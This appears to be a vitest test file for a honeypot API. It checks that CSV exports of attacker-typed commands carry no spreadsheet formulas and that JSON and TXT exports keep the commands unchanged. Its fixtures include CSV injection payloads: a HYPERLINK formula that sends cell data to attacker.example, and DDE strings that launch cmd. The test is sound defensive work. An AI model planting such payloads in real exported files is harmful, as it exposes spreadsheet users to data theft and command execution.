// Attacker-typed text reaches the CSV answers (honeypot commands in /api/honeypot/recent): no cell may start a
// spreadsheet formula; json and txt carry the text unchanged. Every CSV goes through render/csv.ts, whose
// unit test covers any value.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FixtureAddress } from '../../../support/attack-fixtures.ts';
import type { TestApi } from '../../../support/api-server.ts';
import type { TestDatabase } from '../../../support/db.ts';
import { startFixtureApi, stopFixtureApi } from '../../../support/api-fixture-set.ts';

/** Every leading character OWASP lists, in a command an attacker typed into the honeypot. */
const COMMANDS = ['=HYPERLINK("http://attacker.example/?d="&A1,"open")', '+SUM(1+1)*cmd|\' /C calc\'!A0', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)', '\t=1+1', '\r=1+1'];

const FIXTURES: FixtureAddress[] = COMMANDS.map((command, i) => ({
  ip: `203.0.113.${100 + i}`,
  honeypot: 1 + i / 10,
  interaction: 1 + i / 10,
  critical: 1 + i / 10,
  services: { ssh: 1 },
  ports: [22],
  country: 'CN',
  command,
}));

let db: TestDatabase;
let api: TestApi;
let key: string;

beforeAll(async () => {
  ({ db, api, key } = await startFixtureApi('csv injection', { addresses: FIXTURES }));
});
afterAll(() => stopFixtureApi(db, api));

const get = (path: string) => fetch(`${api.base}${path}`, { headers: path.startsWith('/api/honeypot/') ? { authorization: `Bearer ${key}` } : { 'x-api-key': key } });

/** Cells of an RFC 4180 document (CRLF line ends; quoted cells may hold anything). */
function cells(csv: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < csv.length; i++) {
    const c = csv[i];
    if (quoted) {
      if (c !== '"') cell += c;
      else if (csv[i + 1] === '"') {
        cell += '"';
        i++;
      } else quoted = false;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && csv[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

describe('CSV answers hold no formula', () => {
  it('/api/honeypot/recent?format=csv: each command behind a quote, readable', async () => {
    const res = await get('/api/honeypot/recent?format=csv');
    expect(res.status).toBe(200);
    const rows = cells(await res.text());
    expect(rows[0]).toEqual(['ts', 'ip', 'country', 'port', 'service', 'source', 'command']);
    const commands = rows.slice(1).map((r) => r[6]);
    expect(commands.sort()).toEqual(COMMANDS.map((c) => `'${c}`).sort());
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('json and txt carry the commands as they were typed', async () => {
    const doc = (await (await get('/api/honeypot/recent?format=json')).json()) as { data: { command: string }[] };
    expect(doc.data.map((e) => e.command).sort()).toEqual([...COMMANDS].sort());
    expect((await (await get('/api/honeypot/recent?format=txt')).text()).split('\n').filter(Boolean)).toHaveLength(COMMANDS.length);
  });
});
